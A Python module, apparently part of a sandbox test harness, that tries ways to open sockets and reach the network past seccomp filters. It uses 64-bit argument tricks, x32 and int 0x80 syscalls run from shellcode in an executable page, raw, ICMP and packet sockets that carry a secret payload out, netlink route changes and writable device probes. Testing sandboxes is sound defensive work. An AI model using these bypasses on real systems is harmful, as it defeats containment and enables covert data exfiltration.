"""Sockets that no hook on connect(2) would see, and ways past a filter on socket(2)."""

from __future__ import annotations

import ctypes
import errno
import mmap
import os
import platform
import socket
import struct
from contextlib import suppress
from functools import partial
from pathlib import Path
from typing import Any

from attacks.base import DONE, LIBC, SECRET, failure, in_child, number, syscall, told

ETH_P_ALL = 0x0300
WIDE = 1 << 32


def _open(numbers: list[int]) -> None:
    socket.socket(*numbers).close()


def opened(wanted: dict[str, list[int]]) -> dict[str, str]:
    """Each [family, type, protocol]: DONE or why not."""
    return {name: told(_open, numbers) for name, numbers in wanted.items()}


def pairs(families: list[int]) -> dict[str, str]:
    """socketpair(2) of each family, and type: what refused it."""
    found = {}
    for family in families:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
            ends = (ctypes.c_int * 2)()
            done = LIBC.socketpair(family, kind, 0, ends) == 0
            found[f"{family}/{kind}"] = DONE if done else failure()
            for end in ends if done else ():
                os.close(end)
    return found


def every_family(highest: int) -> list[int]:
    """Those of which a socket of any type can be had."""
    found = []
    for family in range(highest):
        kinds = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET, socket.SOCK_RDM)
        if any(told(_open, [family, kind, 0]) == DONE for kind in kinds):
            found.append(family)
    return found


def wide_families(families: dict[str, list[int]]) -> dict[str, str]:
    """Numbers whose upper half is set: the kernel reads 32 bits, a filter may compare 64."""
    found = {}
    for name, (family, kind, protocol) in families.items():
        for where, numbers in {
            "family": (family | WIDE, kind, protocol),
            "family, negative": (family | -WIDE, kind, protocol),
            "type": (family, kind | WIDE, protocol),
            "protocol": (family, kind, protocol | WIDE),
            "all": (family | WIDE, kind | WIDE, protocol | WIDE),
        }.items():
            found[f"{name}, {where}"] = syscall("socket", *numbers)
    return found


def with_flags(families: dict[str, list[int]]) -> dict[str, str]:
    """SOCK_NONBLOCK and SOCK_CLOEXEC share the argument with the type."""
    flags = socket.SOCK_NONBLOCK | socket.SOCK_CLOEXEC
    return {name: told(_open, [family, kind | flags, protocol]) for name, (family, kind, protocol) in families.items()}


def ping(address: str) -> str:
    """An ICMP echo with a payload, by an unprivileged socket."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as opened_socket:
        opened_socket.sendto(b"\x08" + bytes(7) + SECRET, (address, 0))
    return DONE


def raw(address: str) -> str:
    """A packet with a header of our own."""
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 0, 0, 64, 17, 0, bytes(4), socket.inet_aton(address))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as opened_socket:
        opened_socket.sendto(header + struct.pack("!4H", 9, 9999, 8, 0), (address, 0))
    return DONE


def packet(device: str) -> str:
    """A frame."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, ETH_P_ALL) as opened_socket:
        opened_socket.bind((device, 0))
        opened_socket.send(b"\xff" * 12 + b"\x08\x00" + SECRET * 8)
    return DONE


def route_changes() -> dict[str, str]:
    """Through the one netlink family there is: a link, an address, a route; and moving a link elsewhere."""
    link = struct.pack("=BxHiII", 0, 0, 0, 1, 1)
    address = (
        struct.pack("=BBBBi", socket.AF_INET, 24, 0, 0, 1) + struct.pack("=HH", 8, 2) + socket.inet_aton("192.0.2.1")
    )
    route = struct.pack("=BBBBBBBBI", socket.AF_INET, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1)
    kind = _attribute(18, _attribute(1, b"veth\0"))
    moved = struct.pack("=BxHiII", 0, 0, 1, 0, 0) + struct.pack("=HHI", 8, 19, 1)
    return {
        "new veth": _ask_route(16, link + kind, create=True),
        "new dummy": _ask_route(16, link + _attribute(18, _attribute(1, b"dummy\0")), create=True),
        "new address": _ask_route(20, address, create=True),
        "new route": _ask_route(24, route, create=True),
        "move lo": _ask_route(16, moved, create=False),
        "list links": _ask_route(18, struct.pack("=BxHiII", 0, 0, 1, 0, 0), create=False),
    }


def _attribute(kind: int, body: bytes) -> bytes:
    return struct.pack("=HH", 4 + len(body), kind) + body + bytes(-len(body) % 4)


def _ask_route(kind: int, body: bytes, *, create: bool) -> str:
    """One request to rtnetlink(7) with an acknowledgement; its error."""
    flags = 0x05 | (0x600 if create else 0)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as asked:
        asked.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
        reply = asked.recv(65536)
    if struct.unpack_from("=H", reply, 4)[0] != 2:  # NLMSG_ERROR
        return DONE
    code = -struct.unpack_from("=i", reply, 16)[0]
    return errno.errorcode[code] if code else DONE


def other_netlink() -> dict[str, str]:
    """Every netlink protocol."""
    return {str(protocol): told(_open, [16, 3, protocol]) for protocol in range(23)}


# --- other ABIs


def x32() -> Any:
    """socket(AF_PACKET) by its x32 number."""
    return in_child(lambda: _said(LIBC.syscall(ctypes.c_long(0x40000000 | number("socket")), 17, 3, 0)))


def i386() -> Any:
    """socket(AF_VSOCK) by `int 0x80`, whose number 359 is another call's here."""
    if platform.machine() != "x86_64":
        return "ENOSYS"
    return in_child(_by_interrupt)


def _by_interrupt() -> str:
    code = bytes.fromhex(
        "53"  # push rbx
        "b867010000"  # mov eax, 359: socket
        "bb28000000"  # mov ebx, 40: AF_VSOCK
        "b901000000"  # mov ecx, SOCK_STREAM
        "31d2"  # xor edx, edx
        "cd80"  # int 0x80
        "5b"  # pop rbx
        "c3"
    )
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    result = call()
    return DONE if result >= 0 else errno.errorcode.get(-result, str(result))


def _said(result: int) -> str:
    return DONE if result >= 0 else failure()


# --- devices


def devices() -> dict[str, str]:
    """Every character and block device that opens for writing, by its numbers."""
    found = {}
    for directory in (
        "/dev",
        "/dev/net",
        "/dev/input",
        "/dev/snd",
        "/dev/dri",
        "/dev/mapper",
        "/dev/vfio",
        "/dev/bus/usb",
    ):
        if not Path(directory).is_dir():
            continue
        for entry in os.scandir(directory):
            with suppress(OSError):
                status = entry.stat()
                if entry.is_file() or entry.is_dir() or entry.is_symlink() or not status.st_rdev:
                    continue
                os.close(os.open(entry.path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY))
                found[entry.path] = f"{os.major(status.st_rdev)}:{os.minor(status.st_rdev)}"
    return found


def tun(name: str) -> str:
    """A tap device, were there a right to one."""
    return _tun(name, 0x0002 | 0x1000)


def _tun(name: str, flags: int) -> str:
    import fcntl

    try:
        opened_device = os.open("/dev/net/tun", os.O_RDWR)
    except OSError as error:
        return errno.errorcode[error.errno or 0]
    try:
        fcntl.ioctl(opened_device, 0x400454CA, struct.pack("16sH22x", name.encode(), flags))
    except OSError as error:
        return errno.errorcode[error.errno or 0]
    finally:
        os.close(opened_device)
    return DONE


def autoloaded() -> list[str]:
    """Nothing opens, so that nothing loads: a call of each family leaves the list of modules as it was."""
    path = Path("/proc/modules")
    before = path.read_text().splitlines() if path.exists() else []
    for family in range(60):
        told(partial(_open, [family, 1, 0]))
    after = path.read_text().splitlines() if path.exists() else []
    return [line.split()[0] for line in after if line.split()[0] not in {old.split()[0] for old in before}]
